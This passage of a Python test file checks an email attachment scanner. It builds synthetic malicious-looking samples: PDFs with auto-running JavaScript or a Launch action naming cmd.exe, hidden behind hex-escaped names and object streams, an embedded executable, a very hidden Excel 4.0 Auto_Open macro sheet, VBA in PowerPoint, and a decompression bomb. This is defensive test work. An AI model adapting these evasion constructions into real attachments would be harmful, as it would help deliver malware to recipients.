    assert [(f.symbol, f.category) for f in allowed] == [("ARCHIVE_CORRUPT", Category.INFO)]


def test_rar_member_of_unknown_size_is_not_judged_empty() -> None:
    # Unpackers write all the data of a member whose size is unknown; rarfile would read the
    # declared 0 bytes and the PE would pass unseen.
    hidden = rar.rar5([rar.Entry("invoice.txt", pe(), size=0, unknown_size=True)])
    findings = scan(mail(("hidden.rar", hidden)))
    assert symbols(findings) == {"ARCHIVE_CORRUPT"}
    assert "unknown-size flag" in only(findings, "ARCHIVE_CORRUPT").detail


@pytest.mark.parametrize("build", BUILDERS)
def test_rar_output_of_unar_is_checked(build: Any, unar: None) -> None:
    members = [rar.Entry("a.txt", b"hello world " * 40, method=3)]
    packed = rar.literal_block(members[0].data, rar4=build is rar.rar4)
    damaged = packed[:-20] + bytes([packed[-20] ^ 0x55]) + packed[-19:]  # one literal changed
    findings = scan(
        mail(("bad.rar", build([rar.Entry("a.txt", members[0].data, method=3, packed=damaged)])))
    )
    assert symbols(findings) == {"ARCHIVE_CORRUPT"}
    assert "CRC" in only(findings, "ARCHIVE_CORRUPT").detail


def test_rar_without_unar_is_judged_by_its_headers(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rarfile, "CURRENT_SETUP", None)
    monkeypatch.setattr(rarfile, "UNAR_TOOL", "/nonexistent/unar")
    assert not archives.rar_tool()
    members = [
        rar.Entry("setup.exe", pe(), method=3),  # compressed: not extracted, judged by name
        rar.Entry("invoice.pdf", pe()),  # stored: read without unar, and it is a PE
    ]
    findings = scan(mail(("mixed.rar", rar.rar5(members))))
    assert symbols(findings) == {
        "ATTACHMENT_BLOCKED_EXTENSION",
        "ATTACHMENT_EXECUTABLE",
        "ATTACHMENT_TYPE_MISMATCH",
        "ARCHIVE_OPAQUE",
    }
    assert only(findings, "ARCHIVE_OPAQUE").detail == (
        "mixed.rar: rar archive, contents not extracted: no rar tool installed (unar)"
    )
    assert only(findings, "ARCHIVE_OPAQUE").category == Category.INFO
    assert scan(mail(("plain.rar", rar.rar4(rar.stored({"a.txt": b"hi"}))))) == []


@pytest.mark.parametrize("build", BUILDERS)
def test_multi_volume_rar_is_opaque(build: Any) -> None:
    part = build([rar.Entry("readme.txt", b"hi"), rar.Entry("run.exe", pe()[:100], split=True)])
    findings = scan(mail(("set.part1.rar", part)))
    assert symbols(findings) == {"ATTACHMENT_BLOCKED_EXTENSION", "ARCHIVE_OPAQUE"}
    assert "multi-volume" in only(findings, "ARCHIVE_OPAQUE").detail


@pytest.fixture
def hanging_unar(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """An unar that answers -version and then never finishes unpacking."""
    fake = tmp_path / "unar"
    fake.write_text('#!/bin/sh\n[ "$1" = -version ] && exit 0\nexec sleep 60\n')
    fake.chmod(0o755)
    monkeypatch.setattr(rarfile, "CURRENT_SETUP", None)
    monkeypatch.setattr(rarfile, "UNAR_TOOL", str(fake))


@pytest.mark.usefixtures("hanging_unar")
def test_a_hanging_rar_unpacker_is_killed_at_the_time_limit() -> None:
    budget = archives.Budget(archives.Limits(10, 1 << 20, 100.0, 1 << 20, tool_seconds=0.5))
    data = rar.rar5([rar.Entry("a.txt", b"hello", method=3), rar.Entry("b.txt", b"bye", method=3)])
    started = time.monotonic()
    with pytest.raises(archives.LimitExceeded, match="ran more than 0.5 s"):
        list(archives.rar_members(data, "slow.rar", budget))
    assert time.monotonic() - started < 5
    assert budget.tool_seconds <= 0  # spent: the next member would not even start
    with pytest.raises(archives.LimitExceeded, match="ran more than"):
        list(archives.rar_members(data, "again.rar", budget))
    assert time.monotonic() - started < 5


@pytest.mark.usefixtures("hanging_unar")
def test_the_unpacker_time_is_a_share_of_the_check_timeout() -> None:
    data = rar.rar5([rar.Entry("a.txt", b"hello", method=3)])
    policy = ScannerSettings(check_timeout=1.0)
    started = time.monotonic()
    findings = inspect_message(
        parse("m1", mail(("slow.rar", data)), policy=policy), policy.attachments
    )
    assert "ran more than 0.75 s" in only(findings, "ARCHIVE_LIMIT").detail
    assert time.monotonic() - started < 5


# --- MIME limits -------------------------------------------------------------------------------


def nested_multipart(depth: int) -> bytes:
    raw = b"Content-Type: text/plain\r\n\r\nhello\r\n"
    for level in range(depth):
        boundary = f"b{level}".encode()
        raw = (
            b'Content-Type: multipart/mixed; boundary="' + boundary + b'"\r\n\r\n--' + boundary
            + b"\r\n" + raw + b"\r\n--" + boundary + b"--\r\n"
        )  # fmt: skip
    return b"From: a@b.test\r\nMIME-Version: 1.0\r\n" + raw


def test_mime_depth_parts_and_header_limits() -> None:
    assert scan(nested_multipart(10)) == []
    deep = scan(nested_multipart(30))
    assert [(f.symbol, f.category) for f in deep] == [("MIME_UNSCANNABLE", Category.POLICY)]
    assert "deeper than 20" in deep[0].detail
    many = mail(*((f"n{i}.txt", b"x") for i in range(12)))
    assert symbols(scan(many, max_mime_parts=10)) == {"MIME_UNSCANNABLE"}
    assert scan(many, max_mime_parts=20) == []
    big_headers = b"".join(b"X-Filler-%d: %s\r\n" % (i, b"y" * 900) for i in range(700))
    raw = b"From: a@b.test\r\n" + big_headers + b"\r\nbody\r\n"
    assert symbols(scan(raw)) == {"MIME_UNSCANNABLE"}


def test_missing_boundary_is_an_info_defect() -> None:
    raw = (
        b'From: a@b.test\r\nContent-Type: multipart/mixed; boundary="nowhere"\r\n\r\n'
        b"--elsewhere\r\nContent-Type: text/plain\r\n\r\nhidden\r\n"
    )
    findings = scan(raw)
    assert [(f.symbol, f.category) for f in findings] == [("MIME_DEFECT", Category.INFO)]
    assert "StartBoundaryNotFoundDefect" in findings[0].detail


# --- documents: Excel 4.0 macro sheets, PowerPoint 97 VBA, PDF active content -----------------


def biff(kind: int, data: bytes = b"") -> bytes:
    return struct.pack("<HH", kind, len(data)) + data


def bof(substream: int) -> bytes:
    """A BIFF8 BOF record: version 0x0600 and the substream type (5 globals, 0x10 sheet)."""
    return biff(0x0809, struct.pack("<HHHHII", 0x0600, substream, 0x0DBB, 0x07CC, 0, 6))


def boundsheet(name: str, dt: int = 0, state: int = 0) -> bytes:
    """A BoundSheet8 record: stream position, hsState, dt (1: Excel 4.0 macro sheet), name."""
    header = struct.pack("<IBBBB", 0, state, dt, len(name), 1)
    return biff(0x0085, header + name.encode("utf-16-le"))


def xls(*sheets: bytes, globals_extra: bytes = b"", after: bytes = b"") -> bytes:
    """An Excel 97-2003 workbook: globals (codepage, the sheets, EOF), then one empty
    substream per sheet (``after`` goes into the first), in an OLE2 file."""
    stream = bof(5) + biff(0x0042, b"\xb0\x04") + globals_extra + b"".join(sheets) + biff(0x000A)
    for index, _ in enumerate(sheets):
        stream += bof(0x10) + (after if index == 0 else b"") + biff(0x000A)
    return compound_file([("Workbook", stream), ("\x05SummaryInformation", bytes(200))])


def ppt_record(kind: int, body: bytes, version: int = 0, instance: int = 0) -> bytes:
    return struct.pack("<HHI", version | instance << 4, kind, len(body)) + body


def ppt(vba: bool | None, junk: bytes = b"") -> bytes:
    """A PowerPoint 97 file: a DocumentContainer holding a VBAInfoAtom when ``vba`` is not
    None (its fHasMacros = ``vba``), a slide, and for a project its compressed storage in an
    ExOleObjStg record, as PowerPoint keeps it. ``junk`` goes before the first record."""
    children = ppt_record(0x03E9, bytes(40), version=1)  # DocumentAtom
    if vba is not None:
        atom = ppt_record(0x0400, struct.pack("<III", 3 if vba else 0, int(vba), 2), version=2)
        info = ppt_record(0x03FF, atom, version=0xF, instance=1)
        children += ppt_record(0x07D0, info, version=0xF)  # DocInfoListContainer
    children += ppt_record(0x03EA, b"")  # EndDocumentAtom
    stream = junk + ppt_record(0x03E8, children, version=0xF)
    stream += ppt_record(0x03EE, ppt_record(0x03EF, bytes(24), version=2), version=0xF)
    if vba:
        project = compound_file([("VBA", [("dir", bytes(64))]), ("PROJECT", b"ID=x")])
        stored = struct.pack("<I", len(project)) + zlib.compress(project)
        stream += ppt_record(0x1011, stored, instance=1)  # ExOleObjStg, compressed
    current_user = ppt_record(0x0FF6, struct.pack("<IIIH", 20, 0xE391C05F, 0, 0) + bytes(10))
    return compound_file([("Current User", current_user), ("PowerPoint Document", stream)])


def test_xls_with_an_excel4_macro_sheet_is_a_macro() -> None:
    book = xls(boundsheet("Sheet1"), boundsheet("Auto_Open", dt=1, state=2))
    findings = scan(mail(("invoice.xls", book)))
    assert symbols(findings) == {"ATTACHMENT_MACRO"}  # legacy .xls may carry macros: no mismatch
    detail = only(findings, "ATTACHMENT_MACRO").detail
    assert detail == "invoice.xls: Excel 4.0 (XLM) macro sheet 'Auto_Open' (very hidden)"
    renamed = scan(mail(("invoice.pdf", book)))
    assert symbols(renamed) == {"ATTACHMENT_MACRO", "ATTACHMENT_TYPE_MISMATCH"}
    # Inside a zip, and allowed where macros are allowed.
    assert "ATTACHMENT_MACRO" in symbols(scan(mail(("a.zip", zipped({"b.xls": book})))))
    assert scan(mail(("invoice.xls", book)), blocked_types=["executable"]) == []


def test_plain_xls_and_a_macro_type_outside_the_globals_are_no_macro() -> None:
    assert scan(mail(("plain.xls", xls(boundsheet("Sheet1"), boundsheet("Chart", dt=2))))) == []
    # The same record in a worksheet's substream (after the globals' EOF) is not a sheet.
    late = xls(boundsheet("Sheet1"), after=boundsheet("Macro1", dt=1))
    assert scan(mail(("late.xls", late))) == []
    # Hidden ordinary sheets are no macro either.
    assert scan(mail(("hidden.xls", xls(boundsheet("Data", state=1))))) == []


def test_encrypted_xls_cannot_hide_its_sheets() -> None:
    filepass = biff(0x002F, struct.pack("<HHH", 1, 1, 1) + bytes(48))  # RC4 after here
    locked = xls(boundsheet("Sheet1", dt=0x9C), globals_extra=filepass)
    findings = scan(mail(("locked.xls", locked)))
    assert [(f.symbol, f.detail) for f in findings] == [
        ("ARCHIVE_ENCRYPTED", "locked.xls: encrypted Excel 97-2003 workbook")
    ]
    assert (
        only(
            scan(mail(("locked.xls", locked)), encrypted_archive_action="info"), "ARCHIVE_ENCRYPTED"
        ).category
        == Category.INFO
    )


def test_ooxml_macro_sheets_by_part_name_and_by_content_type() -> None:
    types = b"<Types><Override PartName='/xl/workbook.xml' ContentType='%s'/></Types>"
    base = {"_rels/.rels": b"<Relationships/>", "xl/workbook.xml": b"<workbook/>"}
    main = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    xlsm = zipped(
        {"[Content_Types].xml": types % main, **base, "xl/macrosheets/sheet1.xml": b"<xm/>"}
    )
    findings = scan(mail(("book.xlsx", xlsm)))
    assert symbols(findings) == {"ATTACHMENT_MACRO", "ATTACHMENT_TYPE_MISMATCH"}
    assert "Excel 4.0 (XLM) macro sheet" in only(findings, "ATTACHMENT_MACRO").detail
    xlsb = zipped({"[Content_Types].xml": b"<Types/>", **base, "xl/macrosheets/s.bin": b"\0"})
    assert symbols(scan(mail(("book.xlsb", xlsb)))) == {"ATTACHMENT_MACRO"}
    # A macro sheet stored elsewhere is declared by its content type.
    moved = types.replace(b"/xl/workbook.xml", b"/xl/other/m.xml") % (
        b"application/vnd.ms-excel.macrosheet+xml"
    )
    hidden = zipped({"[Content_Types].xml": moved, **base, "xl/other/m.xml": b"<xm/>"})
    assert symbols(scan(mail(("book.xlsb", hidden)))) == {"ATTACHMENT_MACRO"}
    # A content type counts only for a part that is there (a stale override is nothing).
    stale = zipped({"[Content_Types].xml": moved, **base, "xl/worksheets/s1.xml": b""})
    assert scan(mail(("book.xlsb", stale))) == []
    # A VBA project under another name, declared by a default content type for its extension.
    vba = b"<Types><Default Extension='dat' ContentType='application/vnd.ms-office.vbaProject'/>"
    renamed = zipped({"[Content_Types].xml": vba + b"</Types>", **base, "xl/p.dat": b"\0"})
    detail = only(scan(mail(("book.xlsb", renamed))), "ATTACHMENT_MACRO").detail
    assert detail == "book.xlsb: Office document with VBA macros (vbaProject content type)"
    sheet = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    plain = zipped({"[Content_Types].xml": types % sheet, **base, "xl/worksheets/s1.xml": b""})
    assert scan(mail(("book.xlsx", plain))) == []


def test_ppt_with_a_vba_project_is_a_macro() -> None:
    findings = scan(mail(("deck.ppt", ppt(vba=True))))
    assert [(f.symbol, f.detail) for f in findings] == [
        ("ATTACHMENT_MACRO", "deck.ppt: PowerPoint 97 document with VBA macros")
    ]
    # Junk before the first record: the walk is lost, the atom is still found by its header.
    assert symbols(scan(mail(("deck.ppt", ppt(vba=True, junk=b"\xff" * 13))))) == {
        "ATTACHMENT_MACRO"
    }
    assert symbols(scan(mail(("deck.pps.pdf", ppt(vba=True))))) == {
        "ATTACHMENT_MACRO",
        "ATTACHMENT_TYPE_MISMATCH",
    }


def test_plain_ppt_and_an_empty_vba_info_are_no_macro() -> None:
    assert scan(mail(("deck.ppt", ppt(vba=None)))) == []
    assert scan(mail(("deck.ppt", ppt(vba=False)))) == []  # most presentations have this one
    assert scan(mail(("deck.ppt", ppt(vba=False, junk=b"\xff" * 13)))) == []


def test_office_parsers_on_damaged_records() -> None:
    assert documents.xlm_sheets(b"") == ([], False)
    # A BoundSheet8 cut short (its header claims 65535 bytes, 5 are there): no sheet read.
    assert documents.xlm_sheets(bof(5) + b"\x85\x00\xff\xff" + bytes(5)) == ([], False)
    assert documents.ppt_has_vba(b"") is False
    # A container with a partial header inside, a child overrunning its container, a top
    # level record overrunning the stream, thousands of empty containers: no atom, no error.
    assert documents.ppt_has_vba(ppt_record(0x03E8, bytes(3), version=0xF)) is False
    overrun = struct.pack("<HHI", 0, 0x0400, 100) + bytes(8)
    assert documents.ppt_has_vba(ppt_record(0x03E8, overrun, version=0xF)) is False
    assert documents.ppt_has_vba(struct.pack("<HHI", 0xF, 0x03E8, 1 << 30)) is False
    assert documents.ppt_has_vba(ppt_record(0x03E8, b"", version=0xF) * 10_000) is False


def pdf_file(*objects: bytes, trailer: bytes = b"/Root 1 0 R", prefix: bytes = b"") -> bytes:
    """A PDF with the given objects numbered from 1, its xref table and trailer."""
    parts = [prefix + b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"]
    offsets = []
    size = len(parts[0])
    for number, body in enumerate(objects, 1):
        offsets.append(size)
        parts.append(b"%d 0 obj\n" % number + body + b"\nendobj\n")
        size += len(parts[-1])
    out = b"".join(parts)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        xref,
    )
    return out


def pdf_stream(entries: bytes, data: bytes, flate: bool = True) -> bytes:
    if flate:
        data = zlib.compress(data)
        entries += b" /Filter /FlateDecode"
    return b"<< %s /Length %d >>\nstream\n" % (entries, len(data)) + data + b"\nendstream"


def object_stream(*objects: tuple[int, bytes], typed: bool = True) -> bytes:
    """An object stream (/ObjStm): "number offset" pairs, then the objects."""
    offsets, body = [], b""
    for number, text in objects:
        offsets.append(b"%d %d" % (number, len(body)))
        body += text + b"\n"
    head = b" ".join(offsets) + b"\n"
    kind = b"/Type /ObjStm " if typed else b""
    return pdf_stream(kind + b"/N %d /First %d" % (len(objects), len(head)), head + body)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>"
CONTENT = pdf_stream(b"", b"BT /F1 12 Tf 72 712 Td (Invoice 42) Tj ET")
OPEN_JS = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"


def a_pdf(catalog: bytes = CATALOG, *extra: bytes, prefix: bytes = b"") -> bytes:
    return pdf_file(catalog, PAGES, PAGE, CONTENT, *extra, prefix=prefix)


def test_pdf_with_javascript_is_active_content() -> None:
    js = a_pdf(OPEN_JS, b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\);) >>")
    findings = scan(mail(("invoice.pdf", js)))
    assert [(f.symbol, f.category, f.score) for f in findings] == [
        ("ATTACHMENT_PDF_ACTIVE", Category.POLICY, 10.0)
    ]
    assert findings[0].detail == "invoice.pdf: PDF with JavaScript, OpenAction"
    allowed = scan(mail(("invoice.pdf", js)), pdf_active_action="info")
    assert [(f.symbol, f.category, f.score) for f in allowed] == [
        ("ATTACHMENT_PDF_ACTIVE", Category.INFO, 0.0)
    ]
    # A launch action is active too, and a PDF after junk bytes is still a PDF.
    launch = a_pdf(OPEN_JS, b"<< /S /Launch /F (cmd.exe) >>", prefix=b"\x00" * 100)
    assert only(scan(mail(("a.pdf", launch))), "ATTACHMENT_PDF_ACTIVE").detail == (
        "a.pdf: PDF with Launch action, OpenAction"
    )


def test_pdf_javascript_behind_hex_escaped_names() -> None:
    js = a_pdf(OPEN_JS, b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")
    detail = only(scan(mail(("invoice.pdf", js))), "ATTACHMENT_PDF_ACTIVE").detail
    assert detail == (
        "invoice.pdf: PDF with JavaScript, OpenAction (names obfuscated with #xx escapes)"
    )


def test_pdf_javascript_hidden_in_an_object_stream() -> None:
    action = b"<< /Type /Action /S /JavaScript /JS (this.exportDataObject\\({}\\)) >>"
    for typed in (True, False):  # /Type /ObjStm is optional for readers: /N and /First tell
        hidden = a_pdf(OPEN_JS, b"null", object_stream((5, action), typed=typed))
        assert b"JavaScript" not in hidden
        detail = only(scan(mail(("scan.pdf", hidden))), "ATTACHMENT_PDF_ACTIVE").detail
        assert detail == "scan.pdf: PDF with JavaScript, OpenAction (in object streams)"


def test_pdfs_without_javascript_pass() -> None:
    assert scan(mail(("plain.pdf", a_pdf()))) == []
    # An /OpenAction that opens the first page, and /AA on a page without JavaScript.
    to_page = b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>"
    page_aa = PAGE.replace(b">>", b" /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>")
    assert scan(mail(("a.pdf", pdf_file(to_page, PAGES, page_aa, CONTENT)))) == []
    # Names that only start like a keyword, and the bytes of stream data (an image here).
    lookalike = a_pdf(CATALOG, b"<< /JSON 1 /JavaScripts 2 /AAA 3 >>")
    image = pdf_stream(b"/Type /XObject /Subtype /Image", b"\x00/JS /JavaScript (x)", False)
    assert scan(mail(("b.pdf", lookalike))) == []
    assert scan(mail(("c.pdf", a_pdf(CATALOG, image)))) == []
    # A text body that talks about PDF JavaScript is no PDF.
    assert scan(mail(body="A %PDF-1.7 file may hold /JavaScript and /OpenAction")) == []


def filespec(name: bytes, stream: int) -> bytes:
    return b"<< /Type /Filespec /F (%s) /UF (%s) /EF << /F %d 0 R >> >>" % (name, name, stream)


def test_files_embedded_in_a_pdf_are_inspected() -> None:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 5 0 R >> >>"
    tree = b"<< /Names [(a) 6 0 R (b) 8 0 R] >>"
    carrier = a_pdf(
        catalog,
        tree,
        filespec(b"invoice.exe", 7),
        pdf_stream(b"/Type /EmbeddedFile", pe()),
        filespec(b"notes.txt", 9),
        pdf_stream(b"", b"just notes\n"),  # no /Type: known from the /EF that points to it
    )
    findings = scan(mail(("statement.pdf", carrier)))
    assert {(f.symbol, f.detail) for f in findings} == {
        ("ATTACHMENT_BLOCKED_EXTENSION", "statement.pdf/invoice.exe: .exe files are blocked"),
        ("ATTACHMENT_EXECUTABLE", "statement.pdf/invoice.exe: PE executable"),
    }
    # A script has no magic: its name inside the PDF is what blocks it; found in an object
    # stream, and with a UTF-16 name.
    utf16 = b"\xfe\xff" + "run.js".encode("utf-16-be")
    spec = b"<< /Type /Filespec /UF <%s> /EF << /F 7 0 R >> >>" % utf16.hex().encode()
    script = pdf_stream(b"", b"WScript.Echo(1)")
    hidden = a_pdf(catalog, b"null", object_stream((8, spec)), script)
    assert symbols(scan(mail(("s.pdf", hidden)))) == {"ATTACHMENT_BLOCKED_EXTENSION"}
    # A filter we do not decode: the embedded file cannot be inspected (corrupt, by policy).
    lzw = b"<< /Type /EmbeddedFile /Filter /LZWDecode /Length 3 >>\nstream\nabc\nendstream"
    opaque = scan(mail(("o.pdf", a_pdf(catalog, tree, filespec(b"x.bin", 7), lzw))))
    assert [(f.symbol, f.detail) for f in opaque] == [
        ("ARCHIVE_CORRUPT", "o.pdf/x.bin: embedded file could not be decoded")
    ]
    # In an encrypted PDF the streams are encrypted: encrypted, not corrupt.
    garbage = pdf_stream(b"/Type /EmbeddedFile /Filter /FlateDecode", b"\x8f\x11" * 20, False)
    objects = (catalog, PAGES, PAGE, CONTENT, tree, filespec(b"x.bin", 7), garbage)
    locked = pdf_file(*objects, trailer=b"/Root 1 0 R /Encrypt 8 0 R")
    assert [(f.symbol, f.detail) for f in scan(mail(("e.pdf", locked)))] == [
        ("ARCHIVE_ENCRYPTED", "e.pdf/x.bin: embedded file of an encrypted PDF")
    ]


def test_pdf_object_streams_are_decoded_under_limits() -> None:
    bomb = a_pdf(CATALOG, b"null", pdf_stream(b"/Type /ObjStm /N 1 /First 4", b" " * (8 << 20)))
    started = time.thread_time()
    budget = archives.Budget(archives.Limits(1000, 100 << 20, 100.0, 1 << 20))
    (problem,) = documents.scan_pdf(bomb, "bomb.pdf", budget).problems
    assert isinstance(problem, archives.Bomb)  # after the first MiB, from about a KiB
    assert str(problem).startswith("bomb.pdf: a PDF stream inflates to 1048576 bytes from ")
    assert time.thread_time() - started < 0.5
    assert budget.bytes == 100 << 20  # nothing of the bomb was kept
    assert symbols(scan(mail(("bomb.pdf", bomb)))) == {"ARCHIVE_BOMB"}
    text = bytes(random.Random(5).choice(b"abcdefgh ") for _ in range(50_000))
    big = a_pdf(CATALOG, b"null", pdf_stream(b"/Type /ObjStm /N 1 /First 4", text))
    assert symbols(scan(mail(("big.pdf", big)), max_total_uncompressed=10_000)) == {"ARCHIVE_LIMIT"}
    assert scan(mail(("big.pdf", big))) == []
    # A damaged object stream is read as far as it goes.
    cut = a_pdf(OPEN_JS, b"null", object_stream((5, b"<< /S /JavaScript /JS 9 0 R >>")))
    at = cut.index(b"stream\n") + 7
    damaged = cut[: at + 40] + b"\x00" * 8 + cut[at + 48 :]
    assert isinstance(scan(mail(("d.pdf", damaged))), list)


def test_ordinary_large_pdf_is_scanned_quickly() -> None:
    rng = random.Random(1)
    pages = [pdf_stream(b"/Type /XObject /Subtype /Image", rng.randbytes(200_000), False)]
    pages += [pdf_stream(b"", b"BT (page %d) Tj ET" % i * 50) for i in range(300)]
    big = a_pdf(CATALOG, *pages * 40)
    assert len(big) > 8_000_000
    assert scan(mail(("report.pdf", big))) == []
    # The PDF scan alone, in CPU time (about 0.2 s; the bound leaves room for slow machines).
    budget = archives.Budget(archives.Limits(1000, 100 << 20, 100.0, 1 << 20))
    started = time.thread_time()
    found = documents.scan_pdf(big, "report.pdf", budget)
    assert time.thread_time() - started < 1.5
    assert not found.names and not found.problems and not found.embedded


def test_damaged_documents_never_raise() -> None:
    rng = random.Random(7)
    samples = [
        xls(boundsheet("Auto_Open", dt=1, state=2)),
        ppt(vba=True),
        a_pdf(OPEN_JS, b"null", object_stream((5, b"<< /S /JavaScript /JS (x) >>"))),
        a_pdf(CATALOG, b"null", filespec(b"a.exe", 7), pdf_stream(b"/Type /EmbeddedFile", pe())),
    ]
    budget = archives.Budget(archives.Limits(1000, 1 << 20, 100.0, 1 << 20))
    for sample in samples:
        for _ in range(60):
            damaged = bytearray(sample)
            for _ in range(rng.randint(1, 20)):
                damaged[rng.randrange(len(damaged))] = rng.randrange(256)
            damaged = damaged[: rng.randint(len(damaged) // 2, len(damaged))]
            assert isinstance(scan(mail(("x.doc", bytes(damaged)))), list)
            documents.scan_pdf(bytes(damaged), "x", budget)
            documents.xlm_sheets(bytes(damaged))
            documents.ppt_has_vba(bytes(damaged))


# --- policy per domain, registration -----------------------------------------------------------


def test_domain_policy_overrides_and_registration() -> None:
    settings = Settings(
        domains={
            "lab.test": {
                "relay": "127.0.0.1:25",
                "scanner": {"attachments": {"blocked_types": ["macro"], "blocked_extensions": []}},
            }
        }
    )
    raw = mail(("setup.exe", pe()))
    relaxed = parse("m1", raw, policy=settings.scanner_policy("lab.test"), domain="lab.test")
    assert asyncio.run(AttachmentCheck().check(relaxed)) == []
    strict = parse("m1", raw, policy=settings.scanner_policy("other.test"))
    assert "ATTACHMENT_EXECUTABLE" in symbols(asyncio.run(AttachmentCheck().check(strict)))
    assert any(isinstance(check, AttachmentCheck) for check in build_checks(settings))


# --- the shared corpus -------------------------------------------------------------------------


@pytest.mark.skipif(
    not MACRO_SAMPLES.is_dir(), reason="the shared corpus is not beside the checkout"
)
def test_real_office_macro_samples() -> None:
    expected = {
        "macro.eml": {"ATTACHMENT_MACRO", "ATTACHMENT_BLOCKED_EXTENSION"},
        "malicemacro.eml": {"ATTACHMENT_MACRO", "ATTACHMENT_BLOCKED_EXTENSION"},
        "renamedmacro.eml": {"ATTACHMENT_MACRO", "ATTACHMENT_TYPE_MISMATCH"},
        "encrypted.eml": {"ARCHIVE_ENCRYPTED"},
        "zippwmacro.eml": {"ARCHIVE_ENCRYPTED", "ATTACHMENT_BLOCKED_EXTENSION"},
        "nomacro.eml": set(),
        "goodcsv.eml": set(),
        "target_uri.eml": set(),
    }
    for name, wanted in expected.items():
        assert symbols(scan((MACRO_SAMPLES / name).read_bytes())) == wanted, name


def corpus(step: int) -> Iterator[tuple[str, bytes]]:
    """Every ``step``-th file of mime-fixtures and spamassassin, in a fixed order."""
    for folder in ("mime-fixtures", "spamassassin"):
        paths = sorted(p for p in (CORPUS / folder).rglob("*") if p.is_file())
        for path in paths[::step]:
            yield str(path.relative_to(CORPUS)), path.read_bytes()


@pytest.mark.skipif(not CORPUS.is_dir(), reason="the shared corpus is not beside the checkout")
def test_corpus_never_raises_and_ham_is_not_blocked() -> None:
    counts: Counter[str] = Counter()
    blocked_ham = []
    for name, raw in corpus(step=10):
        findings = scan(raw)
        counts.update(f.symbol for f in findings)
        if "/ham/" in name and any(f.category == Category.POLICY for f in findings):
            blocked_ham.append(name)
    assert sum(counts.values()) > 0  # the sample holds defects and macro samples
    # Of ~4,150 ham messages three attach a shell script or an internet shortcut; a
    # tenth of them may hold one, never more.
    assert len(blocked_ham) <= 1, blocked_ham
    print(f"attachments corpus sample: {sorted(counts.items())}")
